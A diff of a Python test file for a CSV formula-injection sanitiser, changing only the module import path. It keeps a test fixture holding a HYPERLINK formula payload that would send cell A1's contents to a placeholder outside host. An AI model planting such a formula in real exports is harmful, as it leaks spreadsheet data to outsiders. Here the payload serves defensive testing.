@@ -1,4 +1,4 @@
-"""almaty_portal.csvsafe: OWASP's rule against CSV (formula) injection, the
+"""core.csvsafe: OWASP's rule against CSV (formula) injection, the
 one helper every CSV export of the portal writes through."""
 
 from __future__ import annotations
@@ -8,7 +8,7 @@ import io
 
 import pytest
 
-from almaty_portal.csvsafe import csv_bytes, safe_cell
+from core.csvsafe import csv_bytes, safe_cell
 
 FORMULA = '=HYPERLINK("http://x/"&A1,"Click")'
 
